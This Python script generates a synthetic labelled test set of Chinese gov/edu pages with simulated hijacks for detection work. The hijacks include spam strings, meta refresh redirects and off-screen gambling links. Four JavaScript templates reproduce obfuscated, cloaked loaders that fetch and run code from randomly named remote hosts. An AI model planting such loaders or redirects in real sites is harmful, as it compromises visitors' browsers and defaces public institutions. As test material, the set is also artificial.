"""Generate synthetic-v21: 40 gov/edu pages (28 hijacked, 12 clean of which 4 legit) in 6 templates.

Fixed seed; a re-run writes byte-identical files. Output goes to the sibling folder synthetic-v21/ of the
folder this script sits in. Run: python3 make_set.py
"""
import html
import json
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from articles import EDU, GOV, KEYWORD, LEGIT  # noqa: E402

OUT = os.path.join(os.path.dirname(HERE), "synthetic-v21")
SEED = 21021
E = lambda s: html.escape(s, quote=False)  # noqa: E731

# ---------------------------------------------------------------- templates
# W1 Statamic-style college news (UTF-8)      W2 ProcessWire-style county page (GBK)
# W3 Jahia-style 信息公开 page (GB18030)       W4 Mezzanine-style department blog post (UTF-8)
# W5 JTBC-style town news (GBK)               W6 HKCMS-style school news (UTF-8)
TEMPLATES = {
    "W1": dict(enc="utf-8", kind="edu", shows_author=True),
    "W2": dict(enc="gbk", kind="gov", shows_author=True),
    "W3": dict(enc="gb18030", kind="gov", shows_author=False),
    "W4": dict(enc="utf-8", kind="edu", shows_author=True),
    "W5": dict(enc="gbk", kind="gov", shows_author=True),
    "W6": dict(enc="utf-8", kind="edu", shows_author=True),
}


def ncr(s, enc):
    """Write characters the page encoding lacks as numeric character references."""
    out = []
    for ch in s:
        try:
            ch.encode(enc)
            out.append(ch)
        except UnicodeEncodeError:
            out.append(f"&#x{ord(ch):X};")
    return "".join(out)


def render(t, p):
    """p: page dict with title_tag, site, h1, date, source, author, views, paras, pre, head_js, after_js,
    end_js, meta_refresh, hidden_links, idx, inst"""
    paras = "\n".join(f"<p>{E(x)}</p>" for x in p["paras"])
    pre = "".join(f'<div class="notice-line">{E(x)}</div>\n' for x in p.get("pre", []))
    head_extra = ""
    if p.get("meta_refresh"):
        head_extra += f'<meta http-equiv="refresh" content="{p["meta_refresh"]}">\n'
    if p.get("head_js"):
        head_extra += f'<script type="text/javascript">{p["head_js"]}</script>\n'
    after = f'<script type="text/javascript">{p["after_js"]}</script>' if p.get("after_js") else ""
    end = f'<script type="text/javascript">{p["end_js"]}</script>' if p.get("end_js") else ""
    hidden = ""
    if p.get("hidden_links"):
        links = "".join(f'<a href="{h}" target="_blank">{E(a)}</a> ' for a, h in p["hidden_links"])
        hidden = f'<div class="flink" style="position:absolute;left:-9999px;top:-9999px">友情链接:{links}</div>'
    d = p["date"]
    y, m, dd = d.split("-")
    src, au, views, site, h1 = E(p["source"]), E(p["author"] or ""), p["views"], E(p["site"]), E(p["h1"])
    if t == "W1":
        body = f'''<header class="site-header"><a class="brand" href="/">{site}</a><nav><a href="/news">学院新闻</a><a href="/notice">通知公告</a></nav></header>
<main class="container"><nav class="breadcrumbs"><a href="/">首页</a> / <a href="/news">学院新闻</a> / 正文</nav>
<article class="prose entry"><h1 class="entry-title">{h1}</h1>
<div class="entry-meta"><time datetime="{d}">发布时间:{d}</time><span>来源:{src}</span><span>作者:{au}</span><span>浏览次数:{views}</span></div>
<div class="entry-content">{paras}</div>{after}</article></main>'''
    elif t == "W2":
        body = f'''<div id="masthead"><h2 class="site-name">{site}</h2></div><div id="nav">首页 | 政务公开 | 政务动态 | 互动交流</div>
<div id="content"><p class="crumb">您现在的位置:首页 &gt; 政务动态 &gt; 正文</p>
<div class="pw-article"><h1>{h1}</h1><div class="pw-meta">发布日期:{y}年{m}月{dd}日 | 信息来源:{src} | 作者:{au} | 点击:{views}</div>
<div class="pw-body">{paras}</div>{after}</div></div>'''
    elif t == "W3":
        idx = p["idx"]
        body = f'''<div class="jahia-header"><span class="jahia-site">{site}</span></div>
<div class="jahia-area main"><div class="xxgk-meta"><table class="xxgk"><tr><th>索引号</th><td>{idx}</td><th>主题分类</th><td>综合政务</td></tr>
<tr><th>发布机构</th><td>{E(p["inst"])}</td><th>发布日期</th><td>{d}</td></tr><tr><th>名称</th><td colspan="3">{h1}</td></tr></table></div>
<div class="jahia-content"><h1 class="title">{h1}</h1><div class="text">{paras}</div>
<div class="jahia-foot">信息来源:{src} 责任编辑:{au} 访问量:{views}</div>{after}</div></div>'''
    elif t == "W4":
        body = f'''<div class="navbar"><a class="navbar-brand" href="/">{site}</a></div><div class="container"><div class="row"><div class="col-md-9 left">
<h1>{h1}</h1><h6 class="post-meta">作者 <a href="/blog/author/">{au}</a> · 发表于 {d} · 阅读 {views}</h6>
<div class="blog-content">{paras}<p class="source">(来源:{src})</p></div>{after}
</div><div class="col-md-3 right"><h3>近期文章</h3></div></div></div>'''
    elif t == "W5":
        body = f'''<div class="jtbc-top"><div class="logo">{site}</div></div><div class="jtbc-main"><div class="location">当前位置:首页 &gt;&gt; 镇村动态</div>
<div class="article"><h1>{h1}</h1><div class="infos">〖发布时间:{d}〗〖来源:{src}〗〖作者:{au}〗〖阅读:{views}次〗</div>
<div class="content">{paras}</div>{after}</div></div>'''
    elif t == "W6":
        body = f'''<div class="hk-header"><div class="hk-logo">{site}</div></div><div class="hk-wrap"><div class="hk-pos">首页 &gt; 校园动态</div>
<div class="hk-show"><h2 class="hk-title">{h1}</h2><ul class="hk-info"><li>时间:{y}/{m}/{dd}</li><li>来源:{src}</li><li>作者:{au}</li><li>浏览:{views}</li></ul>
<div class="hk-content">{paras}</div>{after}</div></div>'''
    lang = "zh-CN"
    enc = TEMPLATES[t]["enc"]
    doc = f'''<!DOCTYPE html>
<html lang="{lang}"><head>
<meta http-equiv="Content-Type" content="text/html; charset={enc}">
<title>{E(p["title_tag"])}</title>
{head_extra}<link rel="stylesheet" href="/static/{t.lower()}/site.css">
</head>
<body class="tpl-{t.lower()}">
{pre}{body}
{hidden}<div class="footer">版权所有 &copy; {site} 备案号:{p["icp"]}</div>
{end}
</body></html>
'''
    return ncr(doc, enc).encode(enc)


# ---------------------------------------------------------------- injection forms (modelled on real-cases-v21)
BRANDS = {
    "brand_replace": ["银穹体育", "琥珀湾娱乐城"],
    "brand_short_emoji": [("赤鸢体育官方入口", "赤鸢"), ("蓝鳍竞彩平台", "蓝鳍")],
    "porn_site_name": ["夜莺直播app下载", "蜜桃柚视频"],
    "bulletin_masthead": ["玖岚国际", "凯澜彩站"],
    "lottery_phrase": ["澳台彩经资料", "港彩精准一肖"],
    "porn_line": [["午夜蔷薇剧场", "樱花动漫成人版", "私密影院入口", "暗香小剧场", "同城约会宝"],
                  ["桃色影视", "宅男福利社", "绯夜影吧", "嫩模写真集", "午夜秀场"]],
    "keyword_list": [["骰宝必胜口诀", "牛牛翻倍技巧", "龙虎斗看路法", "三公包赢秘籍", "捕鱼提现秒到", "电玩城上分"],
                     ["幸运转盘外挂", "老虎机爆分时间", "赛车计划群", "快三稳赚公式", "百人场翻本", "红包扫雷群"]],
    "keyword_swap": ["电子游艺返水", "真人视讯开户"],
    "title_refresh": ["金鲤国际-首页注册即送88", "紫霞阁官网登录-手机版"],
    "hidden_links": [["云鹤棋牌", "碧波捕鱼", "金蟾彩票"], ["青鸾电竞", "星河棋牌", "鸿运彩吧"]],
}
EMOJI = ["🎯", "🌟", "🧧", "🏆", "🎲", "💫", "🍀", "🔥"]

JS_DOCWRITE = ("var ua=navigator.userAgent.toLowerCase(),rf=document.referrer;"
               "if(/iphone|android/.test(ua)&&/baidu|sogou|so\\.com|sm\\.cn/.test(rf)&&!/spider|bot/.test(ua)){"
               "document.write('<ins style=\"display:none!important\" id=\"u{n}\"></ins>');"
               "document.write('<script async src=\"https://{d}/u.js?id={n}\"><\\/script>');}")
JS_XHR = ("(function(){{var k='{k}';function dec(s){{return s.split('').map(function(c){{var i=k.indexOf(c);return i<0?c:k[(i+13)%k.length];}}).join('');}}"
          "if(/^Mac|Win/.test(navigator.platform))return;var x=new XMLHttpRequest();x.open('GET',dec('{u}')+'/s/a?_={n}');"
          "x.onreadystatechange=function(){{if(x.readyState==4&&x.status==200){{new Function(JSON.parse(x.responseText).data)(document);}}}};x.send();}})();")
JS_SUBST = ("!function(){{function a(a){{var b={{q:\"w\",w:\"i\",e:\"n\",r:\"d\",t:\"o\",y:\".\",u:\"l\",i:\"c\",o:\"a\",p:\"t\",s:\"h\",d:\"r\",f:\"e\",g:\"f\",h:\"=\",j:\"'\",k:\":\",l:\"/\",z:\"s\",x:\"p\"}};"
            "return a.split(\"\").map(function(a){{return void 0!==b[a]?b[a]:a}}).join(\"\")}}var b=a(`{payload}`);new Function(b)()}}();")
JS_HIDDENDIV = ("window.{f}=function(){{var en='{e}',sp='<div id=\"'+en+'\" style=\"display:none !important;\">function run(){{var d=document.createElement(\\'div\\');"
                "d.className=\\'{f}\\';document.body.appendChild(d);if(navigator.userAgent.toLowerCase().indexOf(\\'baidu\\')!=-1){{window.open(\\'https://{d}/a/c?k={n}\\',\\'_self\\')}}}}</div>';"
                "var c=document.createElement('{tag}');c.innerHTML=sp;document.body.appendChild(c);"
                "setTimeout(document.getElementById(en).innerHTML+';run();',0)}};window.{f}();")

FORMS = [
    ("brand_replace", "rc21-001 (betting name replacing the institution in headline and text)"),
    ("brand_short_emoji", "rc21-003, rc21-006 (brand and its short form with emoji sprinkled)"),
    ("porn_site_name", "rc21-002 (porn app name as site name and 文章来源)"),
    ("bulletin_masthead", "rc21-004 (brand in bulletin masthead lines above an untouched article)"),
    ("lottery_phrase", "rc21-005 (one lottery phrase replacing the institution once, mid-sentence)"),
    ("porn_line", "rc21-007, rc21-011, rc21-018..020 (porn keyword line above the content and as <title>)"),
    ("keyword_list", "rc21-008 (numbered keyword list above the content, one keyword glued mid-sentence)"),
    ("keyword_swap", "rc21-009 (a gambling phrase replacing a topic noun in headline and text)"),
    ("title_refresh", "rc21-010 (spam <title> over a real body) with a meta refresh"),
    ("cloak_docwrite", "mobile ad-cloaking loaders seen in public code (UA/referrer-gated document.write; no shown string)"),
    ("xhr_newfunction", "mobile ad-cloaking loaders seen in public code (platform-gated XHR + new Function in <head>; no shown string)"),
    ("subst_cipher", "mobile ad-cloaking loaders seen in public code (substitution-cipher loader after the content; no shown string)"),
    ("hidden_div_eval", "mobile ad-cloaking loaders seen in public code (hidden div of function source + eval, Baidu-UA redirect; no shown string)"),
    ("hidden_links", "rc21-017 (markup hidden from readers) as an off-screen 友情链接 block of gambling site names"),
]
NO_STRING = {"cloak_docwrite", "xhr_newfunction", "subst_cipher", "hidden_div_eval"}


def rand_domain(rng):
    letters = "abcdefghjkmnpqrstuvwxyz"
    return "".join(rng.choice(letters) for _ in range(rng.randint(5, 8))) + rng.choice(["77", "88", "365", "9", ""]) + "." + rng.choice(["top", "cc", "vip", "xyz", "icu"])


def fill(a, inst=None):
    inst = inst or a["inst"]
    fmt = lambda s: s.replace("{inst}", inst).replace("{noun}", a.get("noun", ""))  # noqa: E731
    return fmt(a["title"]), [fmt(x) for x in a["paras"]]


def sprinkle(text, rng):
    out = []
    for ch in text:
        out.append(ch)
        if ch in ",。、" and rng.random() < 0.35:
            out.append(rng.choice(EMOJI))
    return "".join(out)


def make_page(rng, pid, tpl, form, art, variant, legit=False):
    title, paras = fill(art)
    shown_title, shown_paras = title, list(paras)
    p = dict(site=art["inst"], source=art["source"], author=art["author"], views=rng.randint(80, 4800),
             date=f"20{rng.randint(22, 25)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
             idx=f"{rng.randint(11000000, 11999999)}/{rng.randint(2022, 2025)}-{rng.randint(100, 999):05d}",
             icp=f"ICP备{rng.randint(10000000, 99999999)}号", inst=art["inst"], pre=[])
    spam, evidence, inj = [], None, [form] if form else []
    truth_title, truth_source = title, art["source"]
    if form == "brand_replace":
        b = BRANDS[form][variant]
        shown_title, shown_paras = fill(art, b)
        p["site"] = b
        spam = [b]
        inj += ["brand_in_headline", "brand_site_name"]
    elif form == "brand_short_emoji":
        b, s = BRANDS[form][variant]
        t1, ps = fill(art, "\x00")
        ps = [x.replace("\x00", b, 1) if i == 0 else x.replace("\x00", s) for i, x in enumerate(ps)]
        ps = [sprinkle(x, rng) for x in ps]
        shown_title, shown_paras = t1.replace("\x00", b), ps
        spam = [b, s]
        inj += ["brand_short_form", "emoji_noise"]
    elif form == "porn_site_name":
        b = BRANDS[form][variant]
        p["site"], p["source"] = b, b
        truth_source = None
        spam = [b]
        inj += ["spam_source_field"]
    elif form == "bulletin_masthead":
        b = BRANDS[form][variant]
        p["pre"] = ["校园快讯", f"{b}办公室 第(20{rng.randint(22, 25)}){rng.randint(10, 260)}期", f"中共{b}委员会宣传部 总第{rng.randint(800, 2400)}期"]
        spam = [b]
    elif form == "lottery_phrase":
        b = BRANDS[form][variant]
        last = max(i for i, x in enumerate(shown_paras) if art["inst"] in x)
        x = shown_paras[last]
        k = x.rfind(art["inst"])
        shown_paras[last] = x[:k] + b + x[k + len(art["inst"]):]
        spam = [b]
    elif form == "porn_line":
        kws = BRANDS[form][variant]
        line = ("," if variant == 0 else "|").join(kws)
        p["pre"] = [line]
        spam = list(kws)
        inj += ["spam_title_tag"]
    elif form == "keyword_list":
        kws = BRANDS[form][variant]
        p["pre"] = [f"NO.{i + 1}: {k}" for i, k in enumerate(kws[:5])]
        x = shown_paras[1]
        cut = x.find(",", len(x) // 3) + 1 or len(x) // 2
        shown_paras[1] = x[:cut] + kws[5] + x[cut:]
        spam = list(kws)
        inj += ["keyword_spliced_mid_sentence", "spam_title_tag"]
    elif form == "keyword_swap":
        g = BRANDS[form][variant]
        shown_title = art["title"].replace("{inst}", art["inst"]).replace("{noun}", g)
        shown_paras = [x.replace("{inst}", art["inst"]).replace("{noun}", g) for x in art["paras"]]
        spam = [g]
        inj += ["spam_in_headline"]
    elif form == "title_refresh":
        b = BRANDS[form][variant]
        p["meta_refresh"] = f"{rng.randint(3, 9)};url=https://{rand_domain(rng)}/?from=gov"
        spam = [b]
        inj += ["spam_title_tag", "meta_refresh"]
    elif form == "cloak_docwrite":
        d = rand_domain(rng)
        p["end_js"] = JS_DOCWRITE.replace("{n}", str(rng.randint(100000, 999999))).replace("{d}", d)
        evidence = f"inline script before </body>: UA/referrer gate, document.write of a hidden <ins> and an async loader from {d}"
        inj += ["ua_referrer_cloaking_script"]
    elif form == "xhr_newfunction":
        k = "abcdefghijklmnopqrstuvwxyz"
        u = "".join(k[(k.index(c) - 13) % 26] if c in k else c for c in f"https://api.{rand_domain(rng)}")
        p["head_js"] = JS_XHR.format(k=k, u=u, n=rng.randint(10 ** 17, 10 ** 18))
        evidence = "inline script in <head>: platform gate, XHR to a rot-decoded host, new Function(response)"
        inj += ["platform_gated_xhr_loader", "new_function_eval"]
    elif form == "subst_cipher":
        payload = "qwerwtq.utiopwte.sdfgh\"spp:xz:llzplr.ih\"".replace('"', "j")
        p["after_js"] = JS_SUBST.format(payload=payload + "/" + rand_domain(rng))
        evidence = "inline script after the article: character-substitution decoder over a backtick string, new Function(b)()"
        inj += ["substitution_cipher_js_loader", "new_function_eval"]
    elif form == "hidden_div_eval":
        f = "".join(rng.choice("aBcdeGghJjk") for _ in range(6))
        p["end_js"] = JS_HIDDENDIV.format(f=f, e="".join(rng.choice("aBcdeGghJjk") for _ in range(8)), d=rand_domain(rng),
                                          n=rng.randint(10 ** 8, 10 ** 9), tag="".join(rng.choice("abcdeghjk") for _ in range(7)))
        evidence = "inline script before </body>: a display:none div holding function source, eval via setTimeout, Baidu-UA redirect"
        inj += ["hidden_div_function_source", "baidu_ua_redirect"]
    elif form == "hidden_links":
        names = BRANDS[form][variant]
        p["hidden_links"] = [(n, f"https://{rand_domain(rng)}/") for n in names]
        spam = list(names)
        inj += ["offscreen_link_block"]
    p["h1"] = shown_title
    p["paras"] = shown_paras
    if form == "porn_line":
        p["title_tag"] = p["pre"][0]
    elif form == "keyword_list":
        p["title_tag"] = BRANDS[form][variant][0] + "_" + shown_title
    elif form == "title_refresh":
        p["title_tag"] = BRANDS[form][variant] + "_" + shown_title
    else:
        p["title_tag"] = f"{shown_title}-{p['site']}"
    if not TEMPLATES[tpl]["shows_author"]:
        p_author_truth = None
    else:
        p_author_truth = art["author"]
    text = "\n".join(shown_paras)
    ttitle = shown_title
    for s in sorted(spam, key=len, reverse=True):
        text = text.replace(s, "")
        ttitle = ttitle.replace(s, "")
    if form in ("brand_replace", "brand_short_emoji", "keyword_swap"):
        truth_title = ttitle
    row = dict(id=pid, url=f"https://{('www.' if TEMPLATES[tpl]['kind'] == 'gov' else 'news.')}{rand_domain(rng).split('.')[0]}.{'gov.cn' if TEMPLATES[tpl]['kind'] == 'gov' else 'edu.cn'}/{rng.randint(1000, 9999)}/{rng.randint(10000, 99999)}.html",
               title=truth_title, date=p["date"], source=truth_source, author=p_author_truth, text=text,
               hijacked=bool(form), injections=inj, spam_strings=spam, legit=legit, lang="zh",
               origin="synthetic v21" + (f"; form modelled on {dict(FORMS)[form]}" if form else ""),
               kind="synthetic", site=TEMPLATES[tpl]["kind"], capture="html", encoding=TEMPLATES[tpl]["enc"], template=tpl)
    if evidence:
        row["evidence"] = evidence
    return render(tpl, p), row


def main():
    rng = random.Random(SEED)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    for f in os.listdir(os.path.join(OUT, "html")):
        os.remove(os.path.join(OUT, "html", f))
    tpls = list(TEMPLATES)
    jobs = []
    # 28 hijacked: each form twice, on two different templates of the right kind for the article
    for fi, (form, _) in enumerate(FORMS):
        for v in range(2):
            tpl = tpls[(fi * 2 + v * 3) % 6]
            if form == "brand_short_emoji" and TEMPLATES[tpl]["enc"] != "utf-8":
                tpl = ["W1", "W4"][v]
            if form == "keyword_swap":
                art = KEYWORD[v]
            else:
                pool = EDU if TEMPLATES[tpl]["kind"] == "edu" else GOV
                art = pool[(fi + v * 5) % len(pool)]
            jobs.append((tpl, form, art, v, False))
    # 8 clean + 4 legit
    for i in range(8):
        tpl = tpls[i % 6]
        pool = EDU if TEMPLATES[tpl]["kind"] == "edu" else GOV
        jobs.append((tpl, None, pool[(i + 2) % len(pool)], 0, False))
    for i, a in enumerate(LEGIT):
        tpl = ["W2", "W3", "W5", "W6"][i]
        jobs.append((tpl, None, a, 0, True))
    order = list(range(len(jobs)))
    rng.shuffle(order)
    rows = []
    for n, j in enumerate(order, 1):
        tpl, form, art, v, legit = jobs[j]
        pid = f"sv21-{n:03d}"
        data, row = make_page(rng, pid, tpl, form, art, v, legit)
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
            f.write(data)
        rows.append(row)
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(len(rows), "pages;", sum(r["hijacked"] for r in rows), "hijacked;", sum(r["legit"] for r in rows), "legit")


if __name__ == "__main__":
    main()
